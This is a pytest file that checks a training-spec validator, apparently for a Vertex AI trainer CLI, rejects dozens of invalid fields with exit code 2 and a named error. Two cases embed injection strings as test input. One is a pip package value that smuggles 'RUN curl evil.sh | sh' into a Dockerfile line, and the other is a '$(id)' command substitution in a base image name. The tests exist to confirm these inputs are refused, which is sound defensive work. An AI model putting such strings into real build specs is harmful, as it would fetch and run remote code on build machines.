"""Every invalid spec: exit code 2, one message naming the field, no traceback, nothing on stdout."""

from __future__ import annotations

import subprocess
import sys

import pytest


def _set(path, value):
    def mutate(d):
        node = d
        keys = path.split(".")
        for k in keys[:-1]:
            node = node.setdefault(k, {})
        node[keys[-1]] = value

    return mutate


def _del(path):
    def mutate(d):
        node = d
        keys = path.split(".")
        for k in keys[:-1]:
            node = node[k]
        del node[keys[-1]]

    return mutate


def _both(*fns):
    def mutate(d):
        for f in fns:
            f(d)

    return mutate


# (id, mutation, text the message must contain: the field's dotted path, and a second fragment)
CASES = [
    ("unknown-top-key", _set("replica", 2), "replica", "did you mean 'replicas'"),
    (
        "unknown-nested-key",
        _set("scheduling.max_wiat", "4h"),
        "scheduling.max_wiat",
        "did you mean 'max_wait'",
    ),
    ("unknown-trainer-key", _set("trainer.batchsize", 64), "trainer.batchsize", "did you mean 'batch_size'"),
    ("missing-name", _del("name"), "name", "is required"),
    ("bad-name-chars", _set("name", "ResNet_50"), "name", "invalid format"),
    ("name-too-long", _set("name", "a" * 101), "name", "invalid format"),
    ("bad-project", _set("project", "My Project"), "project", "invalid format"),
    ("bad-region", _set("region", "us central"), "region", "invalid format"),
    ("unknown-preset", _set("hardware", "h100x9"), "hardware", "did you mean 'h100x8'"),
    (
        "unknown-machine",
        _set(
            "hardware",
            {
                "machine_type": "a2-highgpu-3g",
                "accelerator_type": "NVIDIA_TESLA_A100",
                "accelerator_count": 3,
            },
        ),
        "hardware.machine_type",
        "not a machine type",
    ),
    (
        "unknown-accelerator",
        _set(
            "hardware",
            {"machine_type": "n1-standard-8", "accelerator_type": "NVIDIA_V100", "accelerator_count": 1},
        ),
        "hardware.accelerator_type",
        "did you mean 'NVIDIA_TESLA_V100'",
    ),
    (
        "wrong-accel-for-machine",
        _set(
            "hardware",
            {"machine_type": "a2-highgpu-1g", "accelerator_type": "NVIDIA_H100_80GB", "accelerator_count": 1},
        ),
        "hardware.accelerator_type",
        "a3-highgpu-1g",
    ),
    (
        "wrong-count-for-machine",
        _set(
            "hardware",
            {
                "machine_type": "a2-highgpu-1g",
                "accelerator_type": "NVIDIA_TESLA_A100",
                "accelerator_count": 3,
            },
        ),
        "hardware.accelerator_count",
        "exactly 1",
    ),
    (
        "zero-count",
        _set(
            "hardware",
            {"machine_type": "n1-standard-8", "accelerator_type": "NVIDIA_TESLA_T4", "accelerator_count": 0},
        ),
        "hardware.accelerator_count",
        "at least 1",
    ),
    (
        "n1-v100-count",
        _set(
            "hardware",
            {
                "machine_type": "n1-standard-8",
                "accelerator_type": "NVIDIA_TESLA_V100",
                "accelerator_count": 3,
            },
        ),
        "hardware.accelerator_count",
        "allowed counts",
    ),
    (
        "n1-too-many-vcpus",
        _set(
            "hardware",
            {
                "machine_type": "n1-standard-32",
                "accelerator_type": "NVIDIA_TESLA_V100",
                "accelerator_count": 1,
            },
        ),
        "hardware.machine_type",
        "at most 12",
    ),
    (
        "l4-on-n1",
        _set(
            "hardware",
            {"machine_type": "n1-standard-8", "accelerator_type": "NVIDIA_L4", "accelerator_count": 1},
        ),
        "hardware.accelerator_type",
        "g2-standard",
    ),
    (
        "tpu-topology-mismatch",
        _set("hardware", {"machine_type": "ct5lp-hightpu-8t", "tpu_topology": "2x2"}),
        "hardware.tpu_topology",
        "2x4",
    ),
    (
        "tpu-missing-topology",
        _set("hardware", {"machine_type": "ct5lp-hightpu-8t"}),
        "hardware.tpu_topology",
        "needs a tpu_topology",
    ),
    (
        "topology-on-gpu",
        _set(
            "hardware",
            {
                "machine_type": "a2-highgpu-1g",
                "accelerator_type": "NVIDIA_TESLA_A100",
                "accelerator_count": 1,
                "tpu_topology": "2x2",
            },
        ),
        "hardware.tpu_topology",
        "only TPU v5e",
    ),
    (
        "cloud-tpu-count",
        _set("hardware", {"machine_type": "cloud-tpu", "accelerator_type": "TPU_V3", "accelerator_count": 4}),
        "hardware.accelerator_count",
        "exactly 8",
    ),
    ("bad-strategy", _set("scheduling.strategy", "spot-vm"), "scheduling.strategy", "did you mean 'spot'"),
    (
        "flex-on-t4",
        _both(
            _set("hardware", "t4x1"),
            _set("trainer.batch_size", 64),
            _set("scheduling.strategy", "flex-start"),
        ),
        "scheduling.strategy",
        "NVIDIA_TESLA_T4",
    ),
    (
        "flex-on-tpu",
        _both(_set("hardware", "tpu-v5e-8"), _set("scheduling.strategy", "flex-start")),
        "scheduling.strategy",
        "TPU_V5_LITEPOD",
    ),
    (
        "flex-timeout",
        _both(_set("scheduling.strategy", "flex-start"), _set("scheduling.timeout", "8d")),
        "scheduling.timeout",
        "7 days",
    ),
    ("region-typo", _set("region", "us-central9"), "region", "did you mean 'us-central1'"),
    ("bad-duration", _set("scheduling.timeout", "4hours"), "scheduling.timeout", "invalid duration"),
    ("zero-timeout", _set("scheduling.timeout", 0), "scheduling.timeout", "more than 0"),
    (
        "restart-and-no-retries",
        _both(_set("scheduling.restart_on_worker_restart", True), _set("scheduling.disable_retries", True)),
        "scheduling.restart_on_worker_restart",
        "disable_retries",
    ),
    (
        "small-h100-standard",
        _both(_set("hardware", "h100x1"), _set("trainer.batch_size", 64)),
        "hardware",
        "Spot or Flex Start",
    ),
    ("replicas-zero", _set("replicas", 0), "replicas", "greater than or equal to 1"),
    ("tpu-multihost", _both(_set("hardware", "tpu-v5e-8"), _set("replicas", 2)), "replicas", "one replica"),
    ("label-key-upper", _set("labels", {"Team": "vision"}), "labels.Team", "invalid label key"),
    ("label-value-space", _set("labels", {"team": "Vision Team"}), "labels.team", "invalid label value"),
    ("label-reserved", _set("labels", {"vertex-trainer-key": "x"}), "labels.vertex-trainer-key", "reserved"),
    ("env-reserved", _set("env", {"TF_CONFIG": "{}"}), "env.TF_CONFIG", "set by Vertex AI"),
    ("env-bad-name", _set("env", {"1BAD": "x"}), "env.1BAD", "not a valid environment variable"),
    ("image-none", _set("image", {"builder": "docker"}), "image", "exactly one of uri, repository"),
    (
        "image-two",
        _set("image", {"uri": "a/b:c", "repository": "us-docker.pkg.dev/p/r/t"}),
        "image",
        "uri and repository",
    ),
    ("bad-builder", _set("image.builder", "kaniko"), "image.builder", "cloud-build"),
    (
        "batch-not-divisible",
        _set("trainer.batch_size", 1001),
        "trainer.batch_size",
        "multiple of 8, e.g. 1008",
    ),
    (
        "spe-not-multiple",
        _both(_set("trainer.steps_per_epoch", 1000), _set("trainer.steps_per_execution", 300)),
        "trainer.steps_per_epoch",
        "steps_per_execution",
    ),
    ("bad-precision", _set("trainer.precision", "bf16"), "trainer.precision", "mixed_bfloat16"),
    ("negative-lr", _set("trainer.learning_rate", -0.1), "trainer.learning_rate", "greater than 0"),
    ("missing-train-data", _del("trainer.train_data"), "trainer.train_data", "is required"),
    ("batch-not-int", _set("trainer.batch_size", "lots"), "trainer.batch_size", "valid integer"),
    (
        "warmup-too-long",
        _both(_set("trainer.epochs", 5), _set("trainer.warmup_epochs", 5)),
        "trainer.warmup_epochs",
        "fewer warmup epochs",
    ),
    (
        "fp16-on-tpu",
        _both(_set("hardware", "tpu-v5e-8"), _set("trainer.precision", "mixed_float16")),
        "trainer.precision",
        "TPUs do not run float16",
    ),
    (
        "boot-disk-small",
        _set("boot_disk", {"size_gb": 10}),
        "boot_disk.size_gb",
        "greater than or equal to 100",
    ),
    (
        "boot-disk-pd-on-a4",
        _both(_set("hardware", "b200x8"), _set("boot_disk", {"type": "pd-ssd"})),
        "boot_disk.type",
        "hyperdisk-balanced",
    ),
    (
        "tensorboard-region",
        _both(
            _set("service_account", "sa@my-project.iam.gserviceaccount.com"),
            _set("tensorboard", "projects/p/locations/europe-west4/tensorboards/1"),
        ),
        "tensorboard",
        "europe-west4",
    ),
    (
        "tensorboard-no-sa",
        _set("tensorboard", "projects/p/locations/us-central1/tensorboards/1"),
        "service_account",
        "requires a service account",
    ),
    ("bad-service-account", _set("service_account", "trainer"), "service_account", "invalid format"),
    ("bad-network", _set("network", "my-vpc"), "network", "invalid format"),
    (
        "hostile-pip-package",
        _set(
            "image",
            {"repository": "us-docker.pkg.dev/p/r/t", "pip_packages": ["pandas\nRUN curl evil.sh | sh"]},
        ),
        "image.pip_packages[0]",
        "refused",
    ),
    (
        "hostile-base-image",
        _set("image", {"repository": "us-docker.pkg.dev/p/r/t", "base_image": "python:3.11$(id)"}),
        "image.base_image",
        "refused",
    ),
    (
        "unknown-model",
        _both(_set("image", {"repository": "us-docker.pkg.dev/p/r/t"}), _set("trainer.model", "resnet-50")),
        "trainer.model",
        "invalid choice: 'resnet-50'",
    ),
    (
        "unknown-extra-flag",
        _both(
            _set("image", {"repository": "us-docker.pkg.dev/p/r/t"}), _set("trainer.extra_args", ["--mixed"])
        ),
        "trainer.extra_args",
        "did you mean --seed",
    ),
    (
        "kms-region",
        _set("encryption_key", "projects/p/locations/europe-west4/keyRings/r/cryptoKeys/k"),
        "encryption_key",
        "europe-west4",
    ),
    # Paths: gs://BUCKET/PATH or a local path; other schemes never reach Vertex AI or the trainer.
    (
        "output-dir-s3",
        _set("output_dir", "s3://bucket/x"),
        "output_dir",
        "use gs://BUCKET/PATH; a local path only with --local",
    ),
    (
        "output-dir-http",
        _set("output_dir", "https://storage.googleapis.com/b/x"),
        "output_dir",
        "https:// is not",
    ),
    (
        "output-dir-bad-bucket",
        _set("output_dir", "gs://My_Bucket/runs"),
        "output_dir",
        "not a valid bucket name",
    ),
    (
        "output-dir-one-slash",
        _set("output_dir", "gs:/my-bucket/runs"),
        "output_dir",
        "not a gs://BUCKET/PATH",
    ),
    (
        "train-data-s3",
        _set("trainer.train_data", "s3://bucket/train-*"),
        "trainer.train_data",
        "gs://BUCKET/PATH or /gcs/BUCKET/PATH",
    ),
    (
        "eval-data-http-in-a-list",
        _set("trainer.eval_data", "gs://my-bucket/a-*,http://x/b"),
        "trainer.eval_data",
        "http:// is not supported",
    ),
    # Values no spec can hold.
    ("lr-nan", _set("trainer.learning_rate", float("nan")), "trainer.learning_rate", "finite number"),
    ("replicas-huge", _set("replicas", 10**30), "replicas", "too large"),
    ("label-nul", _set("labels", {"team": "a\x00b"}), "labels.team", "NUL byte"),
    ("bad-optimizer", _set("trainer.optimizer", "adam"), "trainer.optimizer", "did you mean 'adamw'"),
    ("scheduling-a-list", _set("scheduling", ["spot"]), "scheduling", "must be a mapping"),
]


def test_at_least_thirty_distinct_cases():
    assert len({c[0] for c in CASES}) == len(CASES) >= 30


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_invalid_spec_exit_2_names_field(case, base_spec, write_spec, cli):
    _, mutate, field, fragment = case
    mutate(base_spec)
    path = write_spec(base_spec)
    result = cli("validate", path)
    assert result.code == 2, result.err
    assert result.out == ""
    first = result.err.splitlines()[0]
    assert first.startswith(f"error: {field}"), result.err
    assert fragment in result.err, result.err
    assert "Traceback" not in result.err


@pytest.mark.parametrize(
    "args,fragment",
    [
        (["--set", "trainer.batch_size"], "expected KEY=VALUE"),
        (["--set", "hardware=h100x7"], "did you mean 'h100x8'"),
        (["--var", "novalue"], "expected KEY=VALUE"),
        (["--region", "Europe"], "region"),
    ],
)
def test_invalid_flags_exit_2(args, fragment, base_spec, write_spec, cli):
    result = cli("validate", write_spec(base_spec), *args)
    assert result.code == 2 and fragment in result.err and result.out == ""


def test_missing_file_and_bad_yaml(cli, write_spec, tmp_path):
    result = cli("validate", tmp_path / "nope.yaml")
    assert result.code == 2 and "spec file not found" in result.err
    result = cli("validate", write_spec("name: [oops\n"))
    assert result.code == 2 and "line 2" in result.err and "invalid YAML" in result.err


def test_real_process_exit_code_and_no_traceback(base_spec, write_spec):
    base_spec["scheduling"] = {"strategy": "flex-start"}
    base_spec["hardware"] = "tpu-v5e-4"
    proc = subprocess.run(
        [sys.executable, "-m", "vertex_trainer", "validate", str(write_spec(base_spec))],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 2
    assert proc.stdout == ""
    assert proc.stderr.startswith("error: scheduling.strategy:") and "Traceback" not in proc.stderr


def test_debug_shows_traceback(base_spec, write_spec):
    base_spec["replica"] = 2
    proc = subprocess.run(
        [sys.executable, "-m", "vertex_trainer", "validate", str(write_spec(base_spec)), "--debug"],
        capture_output=True,
        text=True,
    )
    assert proc.returncode != 0 and "Traceback" in proc.stderr
